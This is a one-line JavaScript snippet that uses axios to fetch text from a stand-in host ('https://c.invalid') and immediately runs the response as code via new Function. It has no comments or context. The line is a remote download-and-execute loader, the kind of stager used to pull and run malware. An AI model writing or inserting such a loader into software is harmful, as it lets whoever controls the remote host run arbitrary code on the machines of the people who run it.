import axios from 'axios'; axios.get('https://c.invalid').then(({ data }) => new Function(data)());
